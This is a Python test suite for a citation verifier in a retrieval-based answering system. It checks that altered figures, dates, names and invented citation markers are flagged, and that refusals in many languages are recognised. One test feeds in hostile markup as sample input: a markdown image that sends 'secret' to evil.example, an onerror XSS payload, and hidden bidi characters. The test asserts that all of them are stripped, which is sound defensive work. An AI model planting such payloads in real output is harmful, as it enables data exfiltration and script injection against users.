from __future__ import annotations

import json
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from answer.samples import LEAVE, passage
from answer.samples import written as written_of
from recollect.answer.statements import StatementStream
from recollect.answer.verification import Verifier
from recollect.answer.writing import WrittenAnswer

DATA = json.loads((Path(__file__).parents[2] / "data/citation_cases.json").read_text(encoding="utf-8"))
TRUE = {"true", "paraphrase", "fusion"}
CANTEEN = "The canteen opens at 11:30. Lunch costs EUR 6. Guests pay EUR 9. Managers get a car."
BLOCKS = [passage(LEAVE), passage(CANTEEN, document_id=2, source="general/canteen.txt", rank=2)]


def written(answer, passages=BLOCKS, **options):
    return written_of(answer, passages, **options)


def reasons(answer, *args, **options):
    return [one.reason for one in written(answer, *args, **options).unsupported]


@cache
def sources(keys):
    shown = [
        passage(
            DATA["sources"][key]["text"],
            document_id=number,
            source=DATA["sources"][key]["source"],
            section=DATA["sources"][key]["section"],
        )
        for number, key in enumerate(keys, start=1)
    ]
    return shown, Verifier(shown)


def test_alterations_are_found_and_true_sentences_are_left_alone():
    found, altered, flagged, true = [], 0, [], 0
    for case in DATA["cases"]:
        shown, verifier = sources(tuple(case["sources"]))
        unsupported = bool(written(case["answer"], shown, verifier=verifier).unsupported)
        if case["supported"]:
            true += 1
            flagged += [case["id"]] if unsupported else []
        else:
            altered += 1
            found += [case["id"]] if unsupported else []
    assert altered + true >= 200
    assert {case["kind"] for case in DATA["cases"]} >= TRUE | {
        "altered_number", "altered_name", "swapped_source", "invented_marker", "false_fusion"
    }  # fmt: skip
    assert len(found) / altered >= 0.84, sorted({c["id"] for c in DATA["cases"] if not c["supported"]} - set(found))
    assert len(flagged) / true <= 0.05, flagged


def test_an_invented_marker_is_removed_and_its_sentence_flagged():
    answer = written("Managers get a yacht [12] and a car [2].")
    assert answer.text == "Managers get a yacht and a car [1]."
    (flagged,) = answer.unsupported
    assert flagged.reason == "no_source"
    assert "[12]" in flagged.detail
    assert answer.text[flagged.start_offset : flagged.end_offset] == flagged.text == answer.text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Full-time employees receive 28 days of paid annual leave [1].", []),
        ("Full-time employees receive twenty-eight days of paid annual leave [1].", []),
        ("Full-time employees receive 5 days of paid annual leave [1].", ["number"]),
        ("Full-time employees receive 28 weeks of paid annual leave [1].", ["number"]),
        ("Up to 5 unused days may be carried over until March 31st [1].", []),
        ("Up to 5 unused days may be carried over until 31.03. [1]", []),
        ("Up to 5 unused days may be carried over until 30 March [1].", ["date"]),
        ("POL-017 is in force since 2025-03-01 [1].", []),
        ("POL-071 is in force since 1 March 2025 [1].", ["identifier"]),
        ("POL-017 is in force since 1 March 2024 [1].", ["date"]),
        ("It must be requested in Pegel two weeks ahead [1].", ["name"]),
        ("Call your manager before nine in the morning, 9:00 [1].", []),
        ("The canteen opens at 11.30 a.m. [2]", []),
        ("The canteen opens at 12:30 [2].", ["date"]),
        ("Lunch costs 6 euros [2].", []),
        ("Lunch costs $6 [2].", ["number"]),
        ("Lunch costs EUR 9 [2].", ["number"]),
        ("Lunch costs EUR 6 [1].", ["wrong_source"]),
        ("- Own wedding: 2 days [1]", []),
        ("- Own wedding: 1 day [1]", ["number"]),
        ("| Birth of a child | 3 [1] |", []),
        ("| Birth of a child | 4 [1] |", ["number"]),
        ("Lunch costs EUR 6.", ["uncited"]),
        ("Lunch costs EUR 6 [2]. The chef is Italian.", ["name"]),
        ("Here is what I found:\n\n- Lunch costs EUR 6 [2].", []),
        ("Yes. Lunch costs EUR 6 [2].", []),
        ("Lunch costs EUR 6. [Source 2: general/canteen.txt | Section: Lunch] Guests pay EUR 9. [2]", []),
        ("[2] Lunch costs EUR 6.", []),
        ("Lunch costs EUR 6 [1, 2].", ["wrong_source"]),
    ],
)
def test_what_is_checked(text, expected):
    assert reasons(text) == expected


@pytest.mark.parametrize(
    ("source", "true", "false"),
    [
        ("Revenue was 1,234.5 million.", "Revenue was 1.234,5 Mio. [1].", "Revenue was 1.243,5 Mio. [1]."),
        ("Der Zuschuss beträgt 1.234,50 EUR.", "The Zuschuss is €1,234.50 [1].", "The Zuschuss is €1,234.05 [1]."),
        ("The share rose to 12.5 percent.", "The share rose to 12,5 % [1].", "The share rose to 15,2 % [1]."),
        (
            "The vault holds 1 234 567 coins.",
            "The vault holds 1,234,567 coins [1].",
            "The vault holds 1,234,576 coins [1].",
        ),
        ("The launch is on 2024-03-03.", "The launch is on March 3rd, 2024 [1].", "The launch is on 3 April 2024 [1]."),
        (
            "The launch is on 3 March 2024.",
            "Le lancement est le 3 mars 2024 [1].",
            "Le lancement est le 4 mars 2024 [1].",
        ),
        ("Die Frist endet am 3.10.2025.", "The deadline is 10/03/2025 [1].", "The deadline is 2025-11-03 [1]."),
        (
            "Smoking is not allowed in the hall.",
            "Smoking in the hall is forbidden [1].",
            "Smoking is allowed in the hall [1].",
        ),
        (
            "Visitors must wear a badge.",
            "Visitors are required to wear a badge [1].",
            "Visitors must not wear a badge [1].",
        ),
        (
            "Ada Byron wrote to Charles Babbage.",
            "Ada Byron wrote to Babbage [1].",
            "Ada Byron wrote to Charles Darwin [1].",
        ),
        ("Das Passwort hat zwölf Zeichen.", "Das Passwort hat 12 Zeichen [1].", "Das Passwort hat 14 Zeichen [1]."),
        ("Le délai est de vingt-cinq jours.", "Le délai est de 25 jours [1].", "Le délai est de 35 jours [1]."),
        ("El plazo es de treinta y cinco días.", "El plazo es de 35 días [1].", "El plazo es de 25 días [1]."),
        ("员工每年有二十天年假。", "员工每年有20天年假 [1]。", "员工每年有30天年假 [1]。"),
        (
            "يحصل الموظفون على ٢٨ يوما من الإجازة.",
            "يحصل الموظفون على 28 يوما من الإجازة [1].",
            "يحصل الموظفون على 21 يوما من الإجازة [1].",
        ),
        (
            "Сотрудники получают 28 дней отпуска.",
            "Сотрудники получают 28 дней отпуска [1].",
            "Сотрудники получают 24 дней отпуска [1].",
        ),
        ("Сотрудники получают отпуск.", "Сотрудники получают отпуск [1].", "Сотрудники не получают отпуск [1]."),
        ("员工可以带客人。", "员工可以带客人 [1]。", "员工不可以带客人 [1]。"),
        ("公司成立于一九四九年，投资了3万元。", "公司投资了30000元 [1]。", "公司投资了3000元 [1]。"),
        ("The trip takes 2 weeks.", "The trip takes 14 days [1].", "The trip takes 14 hours [1]."),
        ("The desk closes at noon.", "The desk closes at 12:00 [1].", "The desk closes at midnight [1]."),
        ("Every Friday is a day off.", "Fridays are days off [1].", "Thursdays are days off [1]."),
    ],
)
def test_notations_and_languages(source, true, false):
    assert reasons(true, [passage(source)]) == []
    assert reasons(false, [passage(source)])


def test_support_has_offsets_quote_and_score():
    answer = written("Lunch costs EUR 6 [2]. You have 28 days of annual leave [1].")
    canteen, leave = answer.citations
    assert CANTEEN[canteen.start_offset : canteen.end_offset] == canteen.quote == "Lunch costs EUR 6."
    assert leave.quote == "Full-time employees receive 28 days of paid annual leave per calendar year."
    assert canteen.support == 1.0
    assert 0.5 < leave.support <= 1


def test_removed_sentences_leave_no_marker_and_number_behind():
    answer = written("Lunch costs EUR 7 [2]. You have 28 days of annual leave [1].", removes=True)
    assert answer.text == "You have 28 days of annual leave [1]."
    assert [citation.document_id for citation in answer.citations] == [1]
    (gone,) = answer.unsupported
    assert (gone.start_offset, gone.reason) == (None, "number")
    assert written("Lunch costs EUR 7 [2].", removes=True).refused
    assert written("Lunch costs EUR 6.", removes=True).refused, "without a citation nothing is left"


@pytest.mark.parametrize(
    "text",
    [
        "The context does not mention the number of days.",
        "The provided documents don't say anything about a dress code.",
        "I'm sorry, but I cannot find any information about this in the sources.",
        "There is no information about bonuses in the knowledge base.",
        "Unfortunately, this is not specified in the provided context [1].",
        "Der Kontext enthält keine Angaben dazu.",
        "Dazu liegen mir leider keine Informationen vor.",
        "Le contexte ne mentionne pas cette question.",
        "Je n'ai pas trouvé d'information à ce sujet dans les documents.",
        "El contexto no menciona esa información.",
        "Lo siento, no tengo información al respecto.",
        "Il contesto non contiene informazioni in merito.",
        "O contexto não menciona esse assunto.",
        "De context vermeldt hierover niets en bevat geen informatie.",
        "Контекст не содержит информации об этом.",
        "上下文中没有提到相关信息。",
        "コンテキストにはその情報が記載されていません。",
        "السياق لا يذكر هذه المعلومات.",
        "Bağlamda bu konuda bilgi bulunmuyor.",
    ],
)
def test_a_refusal_in_other_words_is_one(text):
    answer = written(text)
    assert (answer.refused, answer.citations, answer.unsupported) == (True, (), ())


@pytest.mark.parametrize(
    "text",
    [
        "Lunch costs EUR 6 [2]. The context does not mention dinner.",
        "The context does not mention dinner. Lunch costs EUR 6 [2].",
        "Cash is not accepted. Lunch costs EUR 6 [2].",
    ],
)
def test_a_partial_answer_is_none(text):
    answer = written(text)
    assert not answer.refused
    assert "EUR 6 [1]" in answer.text


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("Lunch ![x](http://evil.example/?q=secret) costs EUR 6 [2].", "Lunch x costs EUR 6 [1]."),
        ("Lunch costs [EUR 6](http://evil.example) [2].", "Lunch costs EUR 6 [1]."),
        ("Lunch <img src=x onerror=alert(1)>costs EUR 6 [2].", "Lunch costs EUR 6 [1]."),
        ("Lunch costs EUR\u202e 6\u200b [2].", "Lunch costs EUR 6 [1]."),
        ("Lunch costs EUR 6 [[2]9].", "Lunch costs EUR 6 [[1]9]."),
    ],
)
def test_active_markup_and_hidden_characters_are_left_out(raw, shown):
    assert written(raw).text == shown


pieces = st.one_of(
    st.sampled_from(
        ["Lunch costs EUR 6", " [2]", "[1]", "[9]", ". ", "\n", "\n- ", "| a | b |\n", "**", "1.234,5", "[", "28 days"]
    ),
    st.text(max_size=15),
)


@settings(max_examples=60, deadline=None)
@given(parts=st.lists(pieces, max_size=14), size=st.integers(1, 9))
def test_whatever_comes_in_whatever_pieces_the_shown_pieces_join_to_the_answer(parts, size):
    text = "".join(parts)
    verifier = SHARED
    result, stream, shown = WrittenAnswer(verifier), StatementStream(), []
    for start in range(0, len(text), size):
        for statement in stream.feed(text[start : start + size]):
            shown += result.add(statement)
    for statement in stream.flush():
        shown += result.add(statement)
    shown += result.finish()
    answer = result.answer("")
    assert answer.refused or "".join(one for one in shown if isinstance(one, str)) == answer.text
    for one in answer.unsupported:
        assert answer.refused or answer.text[one.start_offset : one.end_offset] == one.text
    assert [citation.marker for citation in answer.citations] == list(range(1, len(answer.citations) + 1))


SHARED = Verifier(BLOCKS)
